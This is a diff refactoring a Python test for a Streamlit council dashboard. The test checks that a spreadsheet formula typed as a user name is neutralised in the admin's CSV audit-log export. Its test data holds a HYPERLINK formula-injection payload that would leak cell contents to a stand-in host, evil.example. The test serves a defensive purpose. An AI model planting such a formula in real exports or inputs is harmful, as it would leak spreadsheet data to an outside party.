@@ -10,20 +10,14 @@ from __future__ import annotations
 import csv
 import io
 import tomllib
-from pathlib import Path
 
-import pytest
-import streamlit as st
 from streamlit import config as streamlit_config
-from streamlit.testing.v1 import AppTest
 
-from rc_dashboard import audit, db, deploy, users
+from rc_dashboard import audit, deploy, users
 from rc_dashboard.access import system_principal
 from rc_dashboard.export import to_csv_text
-from rc_dashboard.ingest.store import store_wards
+from tests.app.conftest import ROOT, new_app
 
-ROOT = Path(__file__).resolve().parents[2]
-TIMEOUT_S = 60
 PASSWORD = "a long enough passphrase"
 HOSTILE_USER = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
 
@@ -35,23 +29,9 @@ def test_streamlits_own_table_export_is_off_in_the_config_and_in_production():
     assert deploy.PRODUCTION_OPTIONS[option.env_var] == "true"
 
 
-@pytest.fixture()
-def council(tmp_path, monkeypatch, two_wards):
-    url = f"sqlite:///{tmp_path / 'council.sqlite'}"
-    monkeypatch.setenv("RC_DATABASE_URL", url)
-    monkeypatch.setenv("RC_DATA_DIR", str(tmp_path))
-    st.cache_resource.clear()
-    st.cache_data.clear()
-    engine = db.connect(url)
-    store_wards(engine, two_wards, file_name="wards", sha256="0" * 64)
-    yield engine
-    st.cache_resource.clear()
-    st.cache_data.clear()
-
-
-def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_admins_export(council):
+def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_admins_export(council_database):
     users.save_users(users.add_user({}, "ann", "admin", name="Ann", password=PASSWORD))
-    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT_S).run()
+    app = new_app().run()
     app.text_input[0].input(HOSTILE_USER)
     app.text_input[1].input("wrong password here")
     app.button[0].click().run()
@@ -65,7 +45,7 @@ def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_admins_export(coun
     buttons = [b.proto.label for b in app.get("download_button")]
     assert "Download the log (CSV)" in buttons, buttons
     # The page's download is to_csv_text(read_log(...)): the same call, read back as a spreadsheet would.
-    exported = to_csv_text(audit.read_log(council, system_principal()))
+    exported = to_csv_text(audit.read_log(council_database, system_principal()))
     rows = list(csv.DictReader(io.StringIO(exported)))
     failed = [r for r in rows if r["action"] == "sign_in_failed"]
     assert failed and failed[0]["user_name"].startswith("'=")
